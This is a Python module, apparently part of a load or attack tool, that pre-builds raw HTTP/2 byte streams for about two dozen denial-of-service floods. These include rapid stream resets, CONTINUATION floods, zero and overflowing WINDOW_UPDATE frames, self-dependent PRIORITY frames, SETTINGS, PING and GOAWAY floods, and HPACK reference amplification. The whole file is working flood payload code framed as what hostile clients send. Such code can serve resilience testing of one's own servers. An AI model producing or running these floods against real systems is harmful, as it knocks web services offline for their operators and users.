"""Floods of HTTP/2: what hostile clients send, as bytes made beforehand, so that a client in Python
is as fast as any. Of each kind there is what comes once, after the preface, and what is repeated;
some kinds count streams and end, and are begun again on the next connection."""

import collections
import struct

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FULL = 16384

# what comes once, what is repeated, and whether that may be sent twice on a connection
Flood = collections.namedtuple("Flood", "once repeated is_endless")


def frame(type_, flags=0, stream=0, payload=b""):
    size = len(payload)
    return struct.pack("!BHBBI", size >> 16, size & 0xffff, type_, flags, stream) + payload


def integer(value, bits, first):
    """An integer of HPACK behind the bits of its first byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((first | value,))
    encoded, value = bytes((first | most,)), value - most
    while value >= 128:
        encoded, value = encoded + bytes((value % 128 | 128,)), value // 128
    return encoded + bytes((value,))


def text(value):
    return integer(len(value), 7, 0) + value


def block(path):
    """:method GET, :scheme http, :authority and :path, without the dynamic table."""
    return b"\x82\x86\x01" + text(b"localhost") + b"\x04" + text(path.encode())


def per_stream(make, num):
    """What `make` says of each stream, one after another."""
    return b"".join(make(1 + 2 * index) for index in range(num))


def _u32(value):
    return struct.pack("!I", value)


def _with_streams(path, after, num, flags=END_STREAM | END_HEADERS):
    fields = block(path)
    return Flood(b"", per_stream(
        lambda stream: frame(HEADERS, flags, stream, fields) + after(stream), num), False)


def reset(path, num):
    return _with_streams(path, lambda stream: frame(RST_STREAM, 0, stream, _u32(CANCEL)), num)


def zero_update(path, num):
    return _with_streams(path, lambda stream: frame(WINDOW_UPDATE, 0, stream, _u32(0)), num)


def overflow(path, num):
    return _with_streams(
        path, lambda stream: frame(WINDOW_UPDATE, 0, stream, _u32(0x7fffffff)) * 2, num)


def half_closed(path, num):
    return _with_streams(path, lambda stream: frame(DATA, 0, stream, b"x"), num)


def self_dependency(path, num):
    return _with_streams(
        path, lambda stream: frame(PRIORITY, 0, stream, _u32(stream) + b"\x10"), num)


def refused(path, num):
    return _with_streams(path, lambda stream: b"", num, flags=END_HEADERS)


def _open_block(path, repeated):
    return Flood(frame(HEADERS, END_STREAM, 1, block(path)), repeated, True)


def _open_body(path, repeated):
    return Flood(frame(HEADERS, END_HEADERS, 1, block(path)), repeated, True)


def _references(path, num):
    """One field of 3,900 bytes, and requests that name it 4,000 times each."""
    first = block(path) + b"\x40" + text(b"x") + text(b"y" * 3900)
    others = block(path) + b"\xbe" * 4000
    return Flood(frame(HEADERS, END_STREAM | END_HEADERS, 1, first), b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, 3 + 2 * index, others) for index in range(num)),
        False)


def _mixture(path, num):
    """A bit of everything that may be repeated, around streams that are reset."""
    fields = block(path)
    return Flood(b"", per_stream(
        lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, fields) + frame(PING, 0, 0,
                             b"12345678") + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, _u32(1)) +
        frame(0x42, 0, stream) + frame(RST_STREAM, 0, stream, _u32(CANCEL)) +
        frame(PING, ACK, 0, b"12345678") + frame(PRIORITY, 0, stream, _u32(0) + b"\x10"), num),
        False)


def make(name, small, large, missing, num=30000):
    """A flood by its name: with paths of a small asset, a large one, and one that is refused."""
    windows = b"".join(frame(SETTINGS, 0, 0, struct.pack("!HI", 4, size)) for size in (1, 65535))
    makers = {
        "resets": lambda: reset(small, num),
        "resets of large bodies": lambda: reset(large, num),
        "resets of 503s": lambda: reset(missing, num),
        "WINDOW_UPDATE of 0": lambda: zero_update(large, num),
        "WINDOW_UPDATE that overflows": lambda: overflow(large, num),
        "DATA on half-closed streams": lambda: half_closed(large, num),
        "PRIORITY on itself": lambda: self_dependency(large, num),
        "streams that are refused": lambda: refused(small, num),
        "empty CONTINUATION": lambda: _open_block(small, frame(CONTINUATION, 0, 1) * 8000),
        "full CONTINUATION": lambda: _open_block(
            small, frame(CONTINUATION, 0, 1, (b"\x00\x01a\x7f\x00" + b"b" * 127) * 124) * 16),
        "SETTINGS": lambda: Flood(b"", frame(SETTINGS) * 8000, True),
        "SETTINGS of windows": lambda: Flood(
            per_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream,
                                            block(large)), 90), windows * 4000, True),
        "SETTINGS acknowledgements": lambda: Flood(b"", frame(SETTINGS, ACK) * 8000, True),
        "PING": lambda: Flood(b"", frame(PING, 0, 0, b"12345678") * 6000, True),
        "PING acknowledgements": lambda: Flood(b"", frame(PING, ACK, 0, b"12345678") * 6000, True),
        "PRIORITY": lambda: Flood(
            frame(HEADERS, END_STREAM | END_HEADERS, 1, block(large)),
            frame(PRIORITY, 0, 1, _u32(0) + b"\x10") * 7000, True),
        "WINDOW_UPDATE": lambda: Flood(b"", frame(WINDOW_UPDATE, 0, 0, _u32(1)) * 8000, True),
        "GOAWAY": lambda: Flood(b"", frame(GOAWAY, 0, 0, bytes(8)) * 6000, True),
        "empty DATA": lambda: _open_body(small, frame(DATA, 0, 1) * 8000),
        "padding": lambda: _open_body(small, frame(DATA, PADDED, 1, b"\x07" + bytes(7)) * 6000),
        "unknown frames": lambda: Flood(b"", frame(0x42) * 8000, True),
        "full unknown frames": lambda: Flood(b"", frame(0x42, 0, 0, bytes(FULL)) * 16, True),
        "HPACK references": lambda: _references(small, 500),
        "mixture": lambda: _mixture(large, num),
    }
    return makers[name]()


NAMES = (
    "resets", "resets of large bodies", "resets of 503s", "WINDOW_UPDATE of 0",
    "WINDOW_UPDATE that overflows", "DATA on half-closed streams", "PRIORITY on itself",
    "streams that are refused", "empty CONTINUATION", "full CONTINUATION", "SETTINGS",
    "SETTINGS of windows", "SETTINGS acknowledgements", "PING", "PING acknowledgements", "PRIORITY",
    "WINDOW_UPDATE", "GOAWAY", "empty DATA", "padding", "unknown frames", "full unknown frames",
    "HPACK references", "mixture")
